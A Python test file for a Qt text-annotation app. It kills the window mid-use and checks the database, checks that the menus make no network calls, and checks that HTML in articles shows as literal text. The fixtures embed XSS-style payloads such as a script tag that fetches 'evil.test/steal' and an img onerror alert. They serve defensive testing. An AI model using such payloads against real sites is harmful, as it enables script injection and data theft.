"""The real window under attack: killed during use, no network, article text full of HTML.

(a) A child process runs the real :class:`MainWindow` offscreen and drives it with key presses
    (accept, reject, relabel, add a span, undo, mark done) in a seeded sequence. Before each key
    it logs its intent; after the window has shown the result it logs what it showed, with
    fsync. The test SIGKILLs it at random moments (``ANNOTATOR_WINDOW_KILLS``, default 24;
    ``ANNOTATOR_WINDOW_SEED`` picks the seed) and after every kill checks the file's
    integrity, that the tables are exactly the replay of the ledger, and that every action
    the window showed is in the database.
(b) Import, suggest, export and retrain from the menus with every socket call refused.
(c) An article full of HTML shows its characters literally everywhere and loads nothing.

Run as a script (``python test_window_robustness.py serve``) this file is the child: it
preloads Qt and the window, then forks one driven window per ``DB LOG SEED`` line on stdin.
"""

from __future__ import annotations

import json
import os
import random
import signal
import subprocess
import sys
import time
from pathlib import Path

HERE = Path(__file__).resolve().parent
REPO = HERE.parents[1]
sys.path.insert(0, str(HERE.parent / "robustness"))

WHO = "ann"
SEED = int(os.environ.get("ANNOTATOR_WINDOW_SEED", "20261126"))
KILLS = int(os.environ.get("ANNOTATOR_WINDOW_KILLS", "24"))
OPS = ["accept", "accept", "reject", "relabel", "add", "undo", "done"]
DECIDING = ("accept", "reject", "relabel")


# -- the child: a real window driven by keys ------------------------------------------------------


class _Log:
    def __init__(self, path: str):
        self.fd = os.open(path, os.O_WRONLY | os.O_APPEND | os.O_CREAT, 0o644)

    def write(self, entry: dict) -> None:
        os.write(self.fd, (json.dumps(entry, sort_keys=True) + "\n").encode())
        os.fsync(self.fd)


class _Driver:
    """One window driven by keys: each step picks an action, logs the intent, presses the key
    and logs what the window shows afterwards."""

    def __init__(self, db: str, log_path: str, seed: int, who: str):
        from PySide6.QtWidgets import QApplication

        from annotator.store import Store
        from annotator.ui.main_window import MainWindow
        from annotator.ui.session import Session

        self.app = QApplication.instance() or QApplication(["window-robustness"])
        self.seed, self.who = seed, who
        self.rng = random.Random(seed)
        self.log = _Log(log_path)
        self.store = Store(db)
        # Enter leaves undecided suggestions without asking (its question: test_undecided_on_done).
        self.store.set_setting("undecided_on_done", "leave")
        self.w = MainWindow(Session(self.store, who))
        self.w.show()
        self.w.activateWindow()
        self.w.open_first_article()
        for _ in range(200):
            self.app.processEvents()
            if self.w.view.hasFocus():
                break
        self.view = self.w.view

    def max_ledger(self) -> int:
        return self.store.conn.execute("SELECT coalesce(max(id), 0) FROM ledger").fetchone()[0]

    def annotation_rows(self) -> set[tuple]:
        aid = self.view.article.id if self.view.article else ""
        return {
            (aid, r.start, r.end, r.label, r.layer)
            for r in self.w.span_list.model.rows()
            if r.kind == "annotation"
        }

    def key(self, k, mods=None) -> None:
        from PySide6.QtCore import Qt
        from PySide6.QtTest import QTest

        QTest.keyClick(self.view, k, Qt.KeyboardModifier.NoModifier if mods is None else mods)
        self.app.processEvents()

    def run(self) -> None:
        from PySide6.QtCore import Qt

        for n in range(10**6):
            op = self.choose()
            intent = self.intent(n, op)
            digit = self.rng.choice([Qt.Key.Key_1, Qt.Key.Key_2, Qt.Key.Key_3])
            shifted = op == "add" and self.rng.random() < 0.3
            before_rows, before_id = self.annotation_rows(), self.max_ledger()
            self.log.write(intent)
            self.press(op, digit, shifted)
            # The key press has returned and the window has redrawn: log what it shows now.
            self.log.write(self.outcome(n, op, intent, before_rows, before_id))
        self.store.close()

    def choose(self) -> str:
        """The next action: a random one, or what the window's state leaves possible."""
        from PySide6.QtCore import Qt

        op = self.rng.choice(OPS)
        if self.view.article is None:
            op = "undo"
        if op in DECIDING:
            f = self.view.focused
            if f is None or f.kind != "suggestion":
                self.key(Qt.Key.Key_Tab)
                f = self.view.focused
            if f is None or f.kind != "suggestion":
                op = "done"
        return op

    def intent(self, n: int, op: str) -> dict:
        """What the action is about to do (an "add" selects its text here)."""
        from PySide6.QtCore import Qt

        view = self.view
        intent: dict = {"run": self.seed, "intent": n, "op": op}
        if op in DECIDING:
            f = view.focused
            intent.update(suggestion=f.id, article=view.article.id, span=[f.start, f.end, f.label, f.layer])
        elif op == "undo":
            last = self.store.last_action(self.who)
            intent["target"] = last["id"] if last else None
        elif op == "done":
            intent["article"] = view.article.id if view.article else None
        elif op == "add":
            length = len(view.article.text)
            start = self.rng.randrange(max(1, length - 12))
            view.select_range(start, start)
            for _ in range(self.rng.randint(1, 8)):
                self.key(Qt.Key.Key_Right, Qt.KeyboardModifier.ShiftModifier)
            intent["article"] = view.article.id
        return intent

    def press(self, op: str, digit, shifted: bool) -> None:
        from PySide6.QtCore import Qt

        if op == "accept":
            self.key(Qt.Key.Key_A)
        elif op == "reject":
            self.key(Qt.Key.Key_X)
        elif op in ("relabel", "add"):
            self.key(digit, Qt.KeyboardModifier.ShiftModifier if shifted else Qt.KeyboardModifier.NoModifier)
        elif op == "undo":
            self.key(Qt.Key.Key_Z, Qt.KeyboardModifier.ControlModifier)
        elif op == "done":
            self.key(Qt.Key.Key_Return)

    def outcome(self, n: int, op: str, intent: dict, before_rows: set, before_id: int) -> dict:
        """What the window shows after the action, and the ledger row it wrote (if any)."""
        entry: dict = {"run": self.seed, "done": n, "op": op, "message": self.w.statusBar().currentMessage()}
        after_id = self.max_ledger()
        if op == "undo":
            # An undo writes no ledger row: it flags the one it undid.
            target = intent["target"]
            flag = self.store.conn.execute("SELECT undone FROM ledger WHERE id = ?", (target,)).fetchone()
            if target is not None and flag and flag[0]:
                entry["undid"] = target
            else:
                entry["outcome"] = "nothing undone"
        elif after_id == before_id:
            entry["outcome"] = "nothing written"  # refused (overlap) or nothing to do
        else:
            last = self.store.conn.execute("SELECT id, kind FROM ledger WHERE id = ?", (after_id,)).fetchone()
            entry["ledger_id"], entry["kind"] = last
            entry["shown"] = self.shown(op, intent, before_rows)
        return entry

    def shown(self, op: str, intent: dict, before_rows: set):
        """What the window shows of the action it wrote."""
        if op == "reject":
            rows = self.w.span_list.model.rows()
            r = next((r for r in rows if r.kind == "suggestion" and r.id == intent["suggestion"]), None)
            return None if r is None else [intent["article"], r.start, r.end, r.label, r.layer, r.state]
        if op == "done":
            aid = intent["article"]
            model = self.w.article_list.model
            return [aid, model.data(model.index(model.row_of(aid), 1))]
        return sorted(self.annotation_rows() - before_rows)


def _drive(db: str, log_path: str, seed: int, who: str) -> None:
    _Driver(db, log_path, seed, who).run()


def _serve() -> None:
    # Preload what a window needs once; each stream is a fork that makes its own QApplication.
    import PySide6.QtTest  # noqa: F401
    import PySide6.QtWidgets  # noqa: F401

    import annotator.text  # noqa: F401
    import annotator.ui.main_window  # noqa: F401

    for line in sys.stdin:
        words = line.split()
        if not words:
            continue
        if words[0] == "reap":
            os.waitpid(int(words[1]), 0)
            print("reaped", flush=True)
            continue
        pid = os.fork()
        if pid == 0:
            try:
                _drive(words[0], words[1], int(words[2]), words[3])
            finally:
                os._exit(0)
        print(pid, flush=True)


if __name__ == "__main__":
    if sys.argv[1:] == ["serve"]:
        _serve()
    sys.exit(0)


# -- the tests -------------------------------------------------------------------------------------

import _dbcheck  # noqa: E402
import pytest  # noqa: E402
from _helpers import make_db  # noqa: E402
from PySide6 import QtGui  # noqa: E402
from PySide6.QtCore import Qt  # noqa: E402
from PySide6.QtGui import QTextDocument  # noqa: E402
from test_nothing_let_in import no_network  # noqa: E402, F401  (the socket-blocking fixture, used by name)

from annotator import model as m  # noqa: E402


def _entries(path: Path) -> list[dict]:
    out = []
    if path.exists():
        for line in path.read_text().splitlines():
            try:
                out.append(json.loads(line))
            except json.JSONDecodeError:
                pass  # the line the kill cut: never reported as shown
    return out


def _check_database(db: Path, log: Path) -> dict[str, int]:
    """Integrity, the tables equal the ledger's replay, and every action the window showed is there."""
    conn = _dbcheck.connect(db)
    try:
        assert _dbcheck.integrity(conn) == "ok"
        _dbcheck.check_ledger_model(conn)
        _dbcheck.check_semantics(conn)
        ledger = {
            lid: (kind, undone) for lid, kind, undone in conn.execute("SELECT id, kind, undone FROM ledger")
        }
        entries = _entries(log)
        done = {(e["run"], e["done"]) for e in entries if "done" in e}
        # Undos logged as shown must have happened; an undo only intended (killed before it was
        # shown) may or may not have.
        undone = {e["undid"] for e in entries if e.get("op") == "undo" and "undid" in e}
        maybe = {
            e["target"]
            for e in entries
            if "intent" in e and e["op"] == "undo" and (e["run"], e["intent"]) not in done
        }
        checked = 0
        for e in entries:
            if e.get("op") == "undo" and "undid" in e:
                assert ledger[e["undid"]][1] != 0, f"undo {e} was shown but the action is in effect"
                checked += 1
                continue
            if "ledger_id" not in e:
                continue
            lid = e["ledger_id"]
            assert lid in ledger, f"the window showed {e} but ledger row {lid} is not in the database"
            kind, flag = ledger[lid]
            assert kind == e["kind"], (e, kind)
            if lid in undone:
                assert flag != 0, f"{e} was undone (and shown so) but is in effect"
                continue
            if lid not in maybe:
                assert flag == 0, f"{e} was shown and never undone, but the database has it undone"
            in_effect = flag == 0
            if e["op"] == "reject" and e.get("shown"):
                aid, start, end, label, layer, state = e["shown"]
                assert state == "rejected"
                row = conn.execute(
                    'SELECT status FROM decisions WHERE article_id=? AND annotator=? AND start=? AND "end"=?'
                    " AND label=? AND layer=?",
                    (aid, WHO, start, end, label, layer),
                ).fetchone()
                if in_effect:
                    assert row == ("rejected",), f"shown rejected, stored {row}: {e}"
            elif e["op"] in ("accept", "relabel", "add"):
                for aid, start, end, label, layer in e["shown"]:
                    row = conn.execute(
                        'SELECT count(*) FROM annotations WHERE article_id=? AND annotator=? AND start=? AND "end"=?'
                        " AND label=? AND layer=?",
                        (aid, WHO, start, end, label, layer),
                    ).fetchone()[0]
                    if in_effect:
                        assert row == 1, f"the window showed {e} but the annotation is not stored"
            elif e["op"] == "done":
                assert e["shown"][1] == "done", e
            checked += 1
        return {"checked": checked, "ledger": len(ledger)}
    finally:
        conn.close()


def _child_env() -> dict[str, str]:
    env = dict(os.environ)
    env["PYTHONPATH"] = os.pathsep.join([str(REPO), env.get("PYTHONPATH", "")])
    env["QT_QPA_PLATFORM"] = "offscreen"
    return env


def _wait_for(predicate, timeout: float) -> bool:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if predicate():
            return True
        time.sleep(0.002)  # polling another process's log; nothing in this process to wait on
    return predicate()


def test_killing_the_window_loses_nothing_it_showed(tmp_path):
    db, log = tmp_path / "work.db", tmp_path / "shown.jsonl"
    make_db(db, articles=6, seed=SEED)
    rng = random.Random(SEED)
    server = subprocess.Popen(
        [sys.executable, str(Path(__file__).resolve()), "serve"],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        text=True,
        env=_child_env(),
        cwd=str(tmp_path),
    )
    shown_total = 0
    try:
        for k in range(KILLS):
            before = sum(1 for e in _entries(log) if "done" in e)
            server.stdin.write(f"{db} {log} {SEED + k} {WHO}\n")
            server.stdin.flush()
            pid = int(server.stdout.readline())
            # Kill at a random moment: during start-up, or after a few shown actions plus a jitter
            # that lands anywhere inside the next key press and its transaction.
            target = rng.choice([0, 1, 2, 3, 5, 8])
            if target:
                want = before + target
                assert _wait_for(
                    lambda want=want: sum(1 for e in _entries(log) if "done" in e) >= want, 20
                ), f"the window made no progress (seed {SEED + k})"
            end = time.perf_counter() + rng.uniform(0, 0.03)
            while time.perf_counter() < end:
                pass
            os.kill(pid, signal.SIGKILL)
            server.stdin.write(f"reap {pid}\n")
            server.stdin.flush()
            assert server.stdout.readline().strip() == "reaped"
            try:
                stats = _check_database(db, log)
            except AssertionError as exc:
                raise AssertionError(f"after kill {k + 1} (seed {SEED}): {exc}") from exc
        shown_total = sum(1 for e in _entries(log) if "done" in e)
    finally:
        server.stdin.close()
        server.wait(timeout=30)
    # The run did real work: many actions shown and checked, of every kind.
    kinds = {e["op"] for e in _entries(log) if e.get("ledger_id") or e.get("undid")}
    assert shown_total >= 2 * KILLS and stats["checked"] >= KILLS, (shown_total, stats)
    assert {"accept", "reject", "undo", "done"} <= kinds, kinds


# -- (b) no network from the menus -------------------------------------------------------------------


def _menu_action(window, menu: str, text: str):
    for a in window.menuBar().actions():
        if a.text().replace("&", "") == menu:
            for act in a.menu().actions():
                if act.text().replace("&", "").split("\t")[0] == text:
                    return act
    raise AssertionError(f"no {menu} > {text}")


def _wait_tasks(qtbot):
    from annotator.ui.tasks import running_tasks

    qtbot.waitUntil(lambda: not running_tasks(), timeout=120_000)


@pytest.fixture
def files(tmp_path):
    a = tmp_path / "steel.jsonl"
    a.write_text(
        json.dumps({"text": "Steel tariffs\nThe European Commission in Brussels raised tariffs on steel."})
        + "\n"
        + json.dumps({"text": "<img src=http://example.com/x.png><script>fetch('http://evil.test')</script>"})
        + "\n",
        encoding="utf-8",
    )
    return [a]


def _run_menus(window, qtbot, monkeypatch, files, tmp_path):
    from annotator.ui import file_actions
    from annotator.ui.file_actions import ExportChoice

    session = window.session
    messages = []
    window.statusBar().messageChanged.connect(messages.append)
    monkeypatch.setattr(file_actions, "choose_import_paths", lambda *_a, **_k: files)
    n = session.store.article_count()
    _menu_action(window, "File", "Import…").trigger()
    _wait_tasks(qtbot)
    assert session.store.article_count() == n + 2
    assert any(msg.startswith("Imported 1 file") for msg in messages)
    _menu_action(window, "File", "Suggest…").trigger()
    _wait_tasks(qtbot)
    assert any(msg.startswith("Suggested") for msg in messages), messages
    for fmt, suggestions in (("prodigy", True), ("spacy", False), ("ledger", False)):
        out = tmp_path / f"out.{fmt}"
        choice = ExportChoice(fmt, out, suggestions=suggestions)
        monkeypatch.setattr(file_actions, "choose_export", lambda *_a, choice=choice: choice)
        _menu_action(window, "File", "Export…").trigger()
        _wait_tasks(qtbot)
        assert out.exists(), messages
    assert "evil.test" in (tmp_path / "out.prodigy").read_text(encoding="utf-8")  # the text, as text
    return messages


@pytest.mark.usefixtures("no_network")
def test_menus_import_suggest_export_and_retrain_make_no_connection(
    window, qtbot, monkeypatch, files, tmp_path
):
    import functools

    import spacy

    from annotator import ops, train

    real = ops.suggest
    monkeypatch.setattr(ops, "suggest", functools.partial(real, nlp=spacy.blank("en"), entities=False))
    assert window.view.article is not None  # an article is shown
    _run_menus(window, qtbot, monkeypatch, files, tmp_path)
    # Model > Retrain on a blank pipeline, too.
    store = window.session.store
    for aid in store.article_ids()[:2]:
        for s in store.suggestions(aid, window.session.annotator):
            try:
                store.accept(window.session.annotator, s.id)
            except Exception:  # noqa: BLE001 - overlapping entities: leave them
                pass
        store.set_state(window.session.annotator, aid, m.DONE)
    window.learning.load_base = lambda: spacy.blank("en")
    window.learning.epochs = 1
    window.learning.force = True  # one blank epoch scores lower than the taxonomy; adopt it anyway
    _menu_action(window, "Model", "Retrain from my annotations…").trigger()
    _wait_tasks(qtbot)
    assert train.trained_model(store) is not None


@pytest.mark.model
@pytest.mark.usefixtures("no_network")
def test_menus_with_the_real_model_make_no_connection(window, qtbot, monkeypatch, files, tmp_path):
    messages = _run_menus(window, qtbot, monkeypatch, files, tmp_path)
    assert any("spans" in msg for msg in messages)


# -- (c) HTML is text ------------------------------------------------------------------------------

TITLE = "<b>Tariffs</b> <img src=http://x/y.png> & more"
BODY = (
    "<script>fetch('http://evil.test/steal')</script> The ministry said "
    '<a href="http://x/z">click</a> and <img src=http://x/y.png onerror=alert(1)> were in the text.'
)
HTML_TEXT = TITLE + "\n" + BODY


def _as_user_sees(tip: str) -> QTextDocument:
    """A tooltip or label the way Qt renders it: rich text when it looks like HTML."""
    doc = QTextDocument()
    if QtGui.Qt.mightBeRichText(tip):  # what QToolTip and QLabel decide by
        doc.setHtml(tip)
    else:
        doc.setPlainText(tip)
    return doc


def _no_images(doc: QTextDocument) -> bool:
    block = doc.begin()
    while block.isValid():
        for it in block:
            if it.fragment().charFormat().isImageFormat():
                return False
        block = block.next()
    return True


@pytest.mark.usefixtures("no_network")
def test_html_in_an_article_is_shown_as_text_everywhere(qtbot, tmp_path):
    """Extends tests/ui/test_article_view.py's markup test (view and view tooltip) to the window."""
    from annotator.store import Store
    from annotator.ui.main_window import MainWindow
    from annotator.ui.session import Session

    store = Store(tmp_path / "html.db")
    store.ensure_labels([m.Label("ORG", m.ENTITY, "#94e6af", "1"), m.Label("TRADE", m.ISSUE, "#dd9888", "1")])
    store.add_articles([HTML_TEXT])
    (aid,) = store.article_ids()
    script = HTML_TEXT.index("<script>")
    img = HTML_TEXT.index("<img src=http://x/y.png onerror")
    store.store_suggestions(
        [
            (
                aid,
                [
                    m.SuggestedSpan(script, script + len("<script>"), "ORG", m.ENTITY, "<b>x</b>@1"),
                    m.SuggestedSpan(img, img + 24, "TRADE", m.ISSUE, "taxonomy:t@1"),
                ],
            )
        ],
        ["<b>x</b>@1", "taxonomy:t@1"],
    )
    w = MainWindow(Session(store, WHO))
    qtbot.addWidget(w)
    w.show()
    qtbot.waitExposed(w)
    w.open_first_article()
    qtbot.waitUntil(lambda: w.view.article is not None)

    # Title above the view, and the view itself.
    assert w.title_label.textFormat() == Qt.TextFormat.PlainText and w.title_label.text() == TITLE
    assert w.view.toPlainText() == HTML_TEXT and _no_images(w.view.document())
    # The article list: the title cell and its tooltip.
    lm = w.article_list.model
    assert lm.data(lm.index(0, 0)) == TITLE
    tip = _as_user_sees(lm.data(lm.index(0, 0), Qt.ItemDataRole.ToolTipRole))
    assert TITLE in tip.toPlainText() and _no_images(tip)
    # The span list: the text cells and their tooltips, and the focused span in the view's tooltip.
    sm = w.span_list.model
    texts = [sm.data(sm.index(r, 1)) for r in range(sm.rowCount())]
    assert "<script>" in texts and "<img src=http://x/y.png" in texts
    for r in range(sm.rowCount()):
        tip = _as_user_sees(sm.data(sm.index(r, 1), Qt.ItemDataRole.ToolTipRole))
        assert sm.data(sm.index(r, 1)).strip() in tip.toPlainText() and _no_images(tip)
    vtip = _as_user_sees(w.view.tooltip_at(script))
    assert "source: <b>x</b>@1" in vtip.toPlainText() and _no_images(vtip)
    # Accepting a span keeps it literal in the list too; nothing was fetched (no_network).
    qtbot.keyClick(w.view, Qt.Key.Key_Tab)
    qtbot.keyClick(w.view, Qt.Key.Key_A)
    assert [a.label for a in store.annotations(aid, WHO)] == ["ORG"]
    assert "<script>" in [sm.data(sm.index(r, 1)) for r in range(sm.rowCount())]
    store.close()
